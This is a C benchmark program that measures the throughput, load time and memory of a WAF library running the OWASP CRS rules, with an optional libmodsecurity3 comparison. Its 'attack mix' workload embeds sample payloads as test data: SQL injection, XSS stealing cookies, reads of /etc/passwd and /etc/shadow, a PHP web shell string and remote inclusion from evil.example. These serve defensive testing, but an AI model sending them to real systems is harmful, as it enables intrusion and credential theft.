/* SPDX-License-Identifier: Apache-2.0 */
/*
 * waf_bench: lib/waf with the OWASP CRS 3.3.4 of Debian's modsecurity-crs
 * on one core.
 *
 *   waf_bench [--paranoia N] [--seconds S] [--setup F] [--rules-dir D]
 *             [--only WORKLOAD] [--cache-dir D] [--requests N] [--no-memo]
 *             [--modsec]
 *
 * Prints, per workload, requests per CPU-second of this thread (the
 * machine may be shared: wall time would count other processes), the same
 * as microseconds and TSC cycles per request (one thread, mg_waf_eval on
 * requests held in memory, block mode as a gateway runs it), the body
 * bytes inspected per second, the load time of
 * the rule set cold (Hyperscan compile) and from the cache, and the
 * memory of one per-lcore context (allocated, and resident after the
 * run). Built with libmodsecurity3 (Debian libmodsecurity-dev), --modsec
 * runs the same requests through its C API in the same run, with the same
 * rules and settings (request body access, JSON/XML processors for their
 * content types), for the ratio.
 *
 * Workloads (--only N): 0 a benign GET with a browser's header fields,
 * 1 a 4 KiB form POST, 2 a 64 KiB JSON POST, 3 an attack mix, 4 a
 * 256 KiB text body, 5 the GET with fresh values each request, 6 the
 * request perf/run_http.sh sends through the gateway.
 *
 * The requests of a workload repeat, so lib/waf's memos (a value's scan,
 * an operator's result, kept from earlier requests) find every short
 * value: --no-memo measures each request as if all its values were new.
 */
#include <dirent.h>
#include <stdbool.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>
#include <x86intrin.h>

#include "mg_waf.h"

#ifdef MG_BENCH_MODSEC
#include <glob.h>
#include <modsecurity/intervention.h>
#include <modsecurity/modsecurity.h>
#include <modsecurity/rules_set.h>
#include <modsecurity/transaction.h>
#endif

#define MAX_REQ (1u << 20)
#define N_WORKLOADS 7

struct workload {
	const char *name;
	uint8_t *req[16];
	size_t len[16], body[16];
	unsigned n;
	/* 8-byte fields of req[0] rewritten before every request, so that
	 * no value repeats (the memos see what live traffic shows them) */
	size_t vary[4];
	unsigned n_vary;
};

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char browser_headers[] =
	"Host: shop.example.com\r\n"
	"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) "
	"Gecko/20100101 Firefox/115.0\r\n"
	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,"
	"image/avif,image/webp,*/*;q=0.8\r\n"
	"Accept-Language: en-US,en;q=0.5\r\n"
	"Accept-Encoding: gzip, deflate, br\r\n"
	"Referer: https://shop.example.com/catalog?category=books\r\n"
	"Cookie: session=8f14e45fceea167a5a36dedd4bea2543; lang=en-US; "
	"cart=3\r\n"
	"Connection: keep-alive\r\n";

static void
add(struct workload *w, const char *head_fmt, const char *ctype,
    const char *body, size_t blen)
{
	uint8_t *r = malloc(MAX_REQ + 4096);
	int n;

	if (r == NULL)
		exit(1);
	if (ctype)
		n = snprintf((char *)r, 4096, "%s%sContent-Type: %s\r\n"
			     "Content-Length: %zu\r\n\r\n", head_fmt,
			     browser_headers, ctype, blen);
	else
		n = snprintf((char *)r, 4096, "%s%s\r\n", head_fmt,
			     browser_headers);
	memcpy(r + n, body, blen);
	w->req[w->n] = r;
	w->len[w->n] = (size_t)n + blen;
	w->body[w->n] = blen;
	w->n++;
}

static void
make_get(struct workload *w)
{
	w->name = "benign GET, 5 query args";
	add(w, "GET /api/v1/products?category=books&sort=price&page=3&"
	    "q=science+fiction&lang=en HTTP/1.1\r\n", NULL, "", 0);
}

/* The GET with a page, a search term and a session cookie that no
 * earlier request had: only the rest (path, other arguments, browser
 * header fields) repeats. */
static void
make_get_fresh(struct workload *w)
{
	const char *mark;

	w->name = "benign GET, fresh values each request";
	add(w, "GET /api/v1/products?category=books&sort=price&page=VVVVVVVV&"
	    "q=science+fiction+VVVVVVVV&lang=en HTTP/1.1\r\n", NULL, "", 0);
	for (const uint8_t *p = w->req[0];
	     (mark = memmem(p, w->len[0] - (size_t)(p - w->req[0]), "VVVVVVVV", 8));
	     p = (const uint8_t *)mark + 8)
		w->vary[w->n_vary++] = (size_t)((const uint8_t *)mark - w->req[0]);
	mark = memmem(w->req[0], w->len[0], "session=", 8);
	if (mark != NULL)
		w->vary[w->n_vary++] = (size_t)((const uint8_t *)mark - w->req[0]) + 8;
}

/* The request perf/mg_httpgen sends through the gateway (perf/run_http.sh
 * with the GEN_PATH of perf/RESULTS.md): an API client's GET, three header
 * fields, five arguments. What the WAF costs the gateway per request. */
static void
make_gateway_get(struct workload *w)
{
	static const char req[] =
		"GET /api/v1/orders?customer=12345&status=open&limit=50&"
		"sort=created_at&page=2 HTTP/1.1\r\nHost: perf.test\r\n"
		"User-Agent: mg_httpgen\r\nAccept: */*\r\n\r\n";

	w->name = "the gateway benchmark's GET (mg_httpgen)";
	w->req[0] = malloc(sizeof(req));
	if (w->req[0] == NULL)
		exit(1);
	memcpy(w->req[0], req, sizeof(req) - 1);
	w->len[0] = sizeof(req) - 1;
	w->n = 1;
}

/* Request @p n's own values: 8 letters per field from a hash of n. */
static void
vary(const struct workload *w, unsigned long long n)
{
	for (unsigned f = 0; f < w->n_vary; f++) {
		uint64_t x = (n * 4 + f + 1) * 0x9e3779b97f4a7c15ull;

		x ^= x >> 29;
		for (unsigned i = 0; i < 8; i++)
			w->req[0][w->vary[f] + i] = (uint8_t)('a' + (x >> (i * 7)) % 26);
	}
}

static void
make_form(struct workload *w)
{
	static const char *const words[] = {
		"delivery", "address", "please", "leave", "the", "parcel",
		"at", "front", "door", "thanks", "Maria", "Lopez", "Street",
		"42", "Springfield", "order", "gift", "wrap", "blue",
	};
	char *b = malloc(8192);
	size_t n = 0;
	unsigned i = 0;

	w->name = "benign form POST, 4 KiB";
	while (n < 4000) {
		n += (size_t)snprintf(b + n, 8192 - n, "%sfield_%u=", n ? "&" : "",
				      i);
		for (unsigned k = 0; k < 8 && n < 4090; k++)
			n += (size_t)snprintf(b + n, 8192 - n, "%s%s",
					      k ? "+" : "",
					      words[(i * 7 + k) % 19]);
		i++;
	}
	add(w, "POST /checkout/confirm HTTP/1.1\r\n",
	    "application/x-www-form-urlencoded", b, n);
	free(b);
}

static void
make_json(struct workload *w)
{
	char *b = malloc(70000);
	size_t n = 0;
	unsigned i = 0;

	w->name = "benign JSON POST, 64 KiB";
	n += (size_t)snprintf(b, 70000, "{\"orders\":[");
	while (n < 65000) {
		n += (size_t)snprintf(b + n, 70000 - n,
			"%s{\"id\":%u,\"customer\":{\"name\":\"Jane Doe\","
			"\"email\":\"jane.doe%u@example.org\"},\"items\":["
			"{\"sku\":\"BK-%05u\",\"title\":\"The Left Hand of "
			"Darkness\",\"qty\":1,\"price\":9.99}],\"note\":"
			"\"Leave at the reception, thank you\",\"paid\":true}",
			i ? "," : "", i, i, i * 13);
		i++;
	}
	n += (size_t)snprintf(b + n, 70000 - n, "]}");
	add(w, "POST /api/v1/orders/import HTTP/1.1\r\n", "application/json",
	    b, n);
	free(b);
}

static void
make_attacks(struct workload *w)
{
	static const char *const forms[] = {
		"user=admin&pass=1%27+or+%271%27%3D%271",
		"comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
		"file=..%2F..%2F..%2Fetc%2Fpasswd",
		"cmd=%3Bcat+%2Fetc%2Fshadow",
		"q=1+union+select+username,password+from+users--",
		"x=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B+%3F%3E",
		"url=http://evil.example/shell.txt?",
		"name=%7B%7B7*7%7D%7D&msg=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
	};

	w->name = "attack mix (8 requests)";
	add(w, "GET /item.php?id=1+AND+1=1--&cat=%3Csvg/onload=alert(1)%3E "
	    "HTTP/1.1\r\n", NULL, "", 0);
	for (unsigned i = 0; i < 7; i++)
		add(w, "POST /form HTTP/1.1\r\n",
		    "application/x-www-form-urlencoded", forms[i],
		    strlen(forms[i]));
}

static void
make_text(struct workload *w)
{
	size_t n = 256u << 10;
	char *b = malloc(n);

	w->name = "text/plain POST, 256 KiB (REQUEST_BODY only)";
	for (size_t i = 0; i < n; i++)
		b[i] = "The quick brown fox jumps over the lazy dog. "[i % 45];
	add(w, "POST /upload/notes HTTP/1.1\r\n", "text/plain", b, n);
	free(b);
}

/* CPU time of this thread: the machine is shared, wall time is not ours */
static double
cpu_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* --requests N: exactly N requests per workload instead of a time, so
 * that `perf stat -e instructions` compares builds on a busy machine. */
static unsigned long long fixed_requests;

static void
run(struct mg_waf_ctx *ctx, const struct workload *w, double seconds,
    double tsc_hz)
{
	struct mg_waf_result res;
	unsigned long long n = 0, bytes = 0, matched = 0;
	double t0, t1;

	/* warm up: the first requests fault in the buffers */
	for (unsigned i = 0; i < 50; i++)
		mg_waf_eval(ctx, w->req[i % w->n], w->len[i % w->n], NULL,
			    &res);
	t0 = cpu_s();
	do {
		for (unsigned k = 0; k < 16; k++) {
			unsigned i = (unsigned)(n % w->n);

			if (w->n_vary > 0)
				vary(w, n);
			mg_waf_eval(ctx, w->req[i], w->len[i], NULL, &res);
			matched += res.n_matches > 0;
			bytes += w->body[i];
			n++;
		}
		t1 = cpu_s();
	} while (fixed_requests ? n < fixed_requests : t1 - t0 < seconds);
	printf("%-46s %9.0f req/s %9.1f us/req %9.0f cyc/req %7.3f Gbit/s"
	       "  (%llu/%llu matched)\n", w->name, (double)n / (t1 - t0),
	       (t1 - t0) / (double)n * 1e6, (t1 - t0) * tsc_hz / (double)n,
	       (double)bytes * 8 / (t1 - t0) / 1e9, matched, n);
}

#ifdef MG_BENCH_MODSEC
/* What meshgate's loader does besides the files: body access, the JSON and
 * XML processors by content type (modsecurity.conf-recommended's rules
 * 200000/200001), the paranoia level before the rules. */
static const char modsec_base[] =
	"SecRuleEngine On\n"
	"SecRequestBodyAccess On\n"
	"SecRequestBodyLimit 1048576\n"
	"SecRequestBodyNoFilesLimit 1048576\n"
	"SecRule REQUEST_HEADERS:Content-Type \"^(?:application(?:/soap\\+|/)"
	"|text/)xml\" \"id:200000,phase:1,t:none,t:lowercase,pass,nolog,"
	"ctl:requestBodyProcessor=XML\"\n"
	"SecRule REQUEST_HEADERS:Content-Type \"^application/json\" "
	"\"id:200001,phase:1,t:none,t:lowercase,pass,nolog,"
	"ctl:requestBodyProcessor=JSON\"\n";

static void
modsec_quiet(void *data, const void *msg)
{
	(void)data;
	(void)msg;
}

static RulesSet *
modsec_load(ModSecurity *ms, const struct mg_waf_conf *conf)
{
	RulesSet *rules = msc_create_rules_set();
	const char *err = NULL;
	char pl[256], pat[4096];
	glob_t g;
	int rc;

	(void)ms;
	snprintf(pl, sizeof(pl), "SecAction \"id:4294960001,phase:1,pass,"
		 "nolog,t:none,setvar:tx.paranoia_level=%u\"\n", conf->paranoia);
	rc = msc_rules_add(rules, modsec_base, &err);
	if (rc >= 0)
		rc = msc_rules_add_file(rules, conf->setup, &err);
	if (rc >= 0)
		rc = msc_rules_add(rules, pl, &err);
	snprintf(pat, sizeof(pat), "%s/*.conf", conf->rules_dir);
	if (rc >= 0 && glob(pat, 0, NULL, &g) == 0) {
		for (size_t i = 0; i < g.gl_pathc && rc >= 0; i++)
			rc = msc_rules_add_file(rules, g.gl_pathv[i], &err);
		globfree(&g);
	}
	if (rc < 0) {
		fprintf(stderr, "libmodsecurity: %s\n", err ? err : "?");
		msc_rules_cleanup(rules);
		return NULL;
	}
	return rules;
}

/* One request through libmodsecurity3's C API, as a connector feeds it. */
static int
modsec_eval(ModSecurity *ms, RulesSet *rules, const uint8_t *req, size_t len)
{
	Transaction *tx = msc_new_transaction(ms, rules, NULL);
	ModSecurityIntervention it = { .status = 200 };
	const char *p = (const char *)req, *end = p + len, *eol, *sp1, *sp2;
	char method[16], uri[4096], ver[8];

	eol = memchr(p, '\r', len);
	sp1 = eol ? memchr(p, ' ', (size_t)(eol - p)) : NULL;
	sp2 = sp1 ? memchr(sp1 + 1, ' ', (size_t)(eol - sp1 - 1)) : NULL;
	if (sp2 == NULL || eol - sp2 < 6) {
		msc_transaction_cleanup(tx);
		return -1;
	}
	snprintf(method, sizeof(method), "%.*s", (int)(sp1 - p), p);
	snprintf(uri, sizeof(uri), "%.*s", (int)(sp2 - sp1 - 1), sp1 + 1);
	snprintf(ver, sizeof(ver), "%.*s", (int)(eol - sp2 - 6), sp2 + 6);
	msc_process_connection(tx, "192.0.2.7", 40000, "192.0.2.1", 80);
	msc_process_uri(tx, uri, method, ver);
	for (p = eol + 2; p + 2 <= end && !(p[0] == '\r' && p[1] == '\n');
	     p = eol + 2) {
		const char *colon, *v;

		eol = memchr(p, '\r', (size_t)(end - p));
		if (eol == NULL)
			break;
		colon = memchr(p, ':', (size_t)(eol - p));
		if (colon == NULL)
			continue;
		for (v = colon + 1; v < eol && *v == ' '; v++)
			;
		msc_add_n_request_header(tx, (const unsigned char *)p,
					 (size_t)(colon - p),
					 (const unsigned char *)v,
					 (size_t)(eol - v));
	}
	msc_process_request_headers(tx);
	if (p + 2 < end)
		msc_append_request_body(tx, (const unsigned char *)p + 2,
					(size_t)(end - p - 2));
	msc_process_request_body(tx);
	msc_intervention(tx, &it);
	free(it.url);
	free(it.log);
	msc_process_logging(tx);
	msc_transaction_cleanup(tx);
	return it.status;
}

static void
modsec_run(ModSecurity *ms, RulesSet *rules, const struct workload *w,
	   double seconds, double tsc_hz)
{
	unsigned long long n = 0, blocked = 0;
	double t0 = cpu_s(), t1;

	do {
		unsigned i = (unsigned)(n % w->n);

		if (w->n_vary > 0)
			vary(w, n);
		blocked += modsec_eval(ms, rules, w->req[i], w->len[i]) != 200;
		n++;
		t1 = cpu_s();
	} while (fixed_requests ? n < fixed_requests : t1 - t0 < seconds);
	printf("%-46s %9.0f req/s %9.1f us/req %9.0f cyc/req  (%llu/%llu "
	       "blocked)  [libmodsecurity3]\n", w->name, (double)n / (t1 - t0),
	       (t1 - t0) / (double)n * 1e6, (t1 - t0) * tsc_hz / (double)n,
	       blocked, n);
}
#endif

/* TSC ticks per second, over a tenth of a second */
static double
tsc_hz(void)
{
	double t0 = now_s(), t1;
	uint64_t c0 = __rdtsc(), c1;

	do {
		t1 = now_s();
	} while (t1 - t0 < 0.1);
	c1 = __rdtsc();
	return (double)(c1 - c0) / (t1 - t0);
}

static void
remove_cache(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	char path[4096];

	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		unlink(path);
	}
	closedir(d);
	rmdir(dir);
}

static long
rss_kib(void)
{
	FILE *f = fopen("/proc/self/statm", "r");
	long pages = 0, rss = 0;

	if (f == NULL)
		return 0;
	if (fscanf(f, "%ld %ld", &pages, &rss) != 2)
		rss = 0;
	fclose(f);
	return rss * (sysconf(_SC_PAGESIZE) / 1024);
}

int
main(int argc, char **argv)
{
	static const struct option lopts[] = {
		{ "paranoia", required_argument, NULL, 'p' },
		{ "seconds", required_argument, NULL, 's' },
		{ "setup", required_argument, NULL, 'S' },
		{ "rules-dir", required_argument, NULL, 'r' },
		{ "only", required_argument, NULL, 'o' },
		{ "cache-dir", required_argument, NULL, 'c' },
		{ "modsec", no_argument, NULL, 'M' },
		{ "requests", required_argument, NULL, 'n' },
		{ "no-memo", no_argument, NULL, 'N' },
		{ "no-fold", no_argument, NULL, 'F' },
		{ NULL, 0, NULL, 0 },
	};
	struct mg_waf_conf conf = {
		.setup = "/etc/modsecurity/crs/crs-setup.conf",
		.rules_dir = "/usr/share/modsecurity-crs/rules",
		.paranoia = 1,
		.mode = MG_WAF_MODE_BLOCK,
	};
	struct workload w[N_WORKLOADS] = { 0 };
	char cache[] = "/tmp/waf_bench_cache.XXXXXX";
	char err[MG_WAF_ERRLEN];
	struct mg_waf_ruleset *rs;
	struct mg_waf_ctx *ctx;
	double seconds = 3, t0, cold, warm, hz;
	long rss0;
	int c, only = -1;
	bool modsec = false;

	while ((c = getopt_long(argc, argv, "", lopts, NULL)) != -1) {
		switch (c) {
		case 'p':
			conf.paranoia = (uint8_t)atoi(optarg);
			break;
		case 's':
			seconds = atof(optarg);
			break;
		case 'S':
			conf.setup = optarg;
			break;
		case 'r':
			conf.rules_dir = optarg;
			break;
		case 'o':
			only = atoi(optarg);
			break;
		case 'c':
			conf.cache_dir = optarg;
			break;
		case 'M':
			modsec = true;
			break;
		case 'n':
			fixed_requests = strtoull(optarg, NULL, 10);
			break;
		case 'N':
			conf.no_scan_memo = true;
			break;
		case 'F':
			conf.no_fold = true;
			break;
		default:
			fprintf(stderr, "usage: waf_bench [--paranoia N] "
				"[--seconds S] [--setup F] [--rules-dir D] "
				"[--only WORKLOAD] [--cache-dir D] "
				"[--requests N] [--no-memo] [--no-fold] "
				"[--modsec]\n");
			return 2;
		}
	}
	/* a fresh cache directory, so that the first load is cold */
	if (conf.cache_dir == NULL) {
		if (mkdtemp(cache) == NULL)
			return 1;
		conf.cache_dir = cache;
	}
	t0 = now_s();
	rs = mg_waf_load(&conf, err, sizeof(err));
	cold = now_s() - t0;
	if (rs == NULL) {
		fprintf(stderr, "waf_bench: %s\n", err);
		return 1;
	}
	mg_waf_ruleset_free(rs);
	t0 = now_s();
	rs = mg_waf_load(&conf, err, sizeof(err));
	warm = now_s() - t0;
	if (rs == NULL || !mg_waf_ruleset_stats(rs)->from_cache) {
		fprintf(stderr, "waf_bench: the cached load did not use the "
			"cache\n");
		return 1;
	}
	printf("CRS 3.3.4, paranoia level %u, block mode; %u Hyperscan "
	       "databases, %u patterns; %u rules decided at load (%u into "
	       "the TX image)\n", conf.paranoia,
	       mg_waf_ruleset_stats(rs)->groups,
	       mg_waf_ruleset_stats(rs)->patterns,
	       mg_waf_ruleset_stats(rs)->folded,
	       mg_waf_ruleset_stats(rs)->hoisted);
	printf("load: cold %.0f ms (Hyperscan compile), cached %.0f ms\n",
	       cold * 1e3, warm * 1e3);
	rss0 = rss_kib();
	ctx = mg_waf_ctx_create(rs, &conf);
	if (ctx == NULL)
		return 1;
	make_get(&w[0]);
	make_form(&w[1]);
	make_json(&w[2]);
	make_attacks(&w[3]);
	make_text(&w[4]);
	make_get_fresh(&w[5]);
	make_gateway_get(&w[6]);
	hz = tsc_hz();
	for (int i = 0; i < N_WORKLOADS; i++)
		if (only < 0 || only == i)
			run(ctx, &w[i], seconds, hz);
	printf("context: %zu KiB allocated, %ld KiB resident after the run\n",
	       mg_waf_ctx_memory(ctx) / 1024, rss_kib() - rss0);
#ifdef MG_BENCH_MODSEC
	if (modsec) {
		ModSecurity *ms = msc_init();
		RulesSet *rules;

		msc_set_connector_info(ms, "meshgate waf_bench");
		msc_set_log_cb(ms, modsec_quiet);
		t0 = now_s();
		rules = modsec_load(ms, &conf);
		printf("libmodsecurity3 %s: load %.0f ms\n", msc_who_am_i(ms),
		       (now_s() - t0) * 1e3);
		for (int i = 0; rules && i < N_WORKLOADS; i++)
			if (only < 0 || only == i)
				modsec_run(ms, rules, &w[i], seconds, hz);
		if (rules)
			msc_rules_cleanup(rules);
		msc_cleanup(ms);
	}
#else
	if (modsec)
		fprintf(stderr, "waf_bench: built without libmodsecurity3\n");
#endif
	for (unsigned i = 0; i < MG_WAF_C_MAX; i++)
		if (mg_waf_counter(ctx, i) && i > MG_WAF_C_BLOCKED)
			printf("counter %s %llu\n", mg_waf_counter_name(i),
			       (unsigned long long)mg_waf_counter(ctx, i));
	mg_waf_ctx_free(ctx);
	mg_waf_ruleset_free(rs);
	if (conf.cache_dir == cache)
		remove_cache(cache);
	return 0;
}
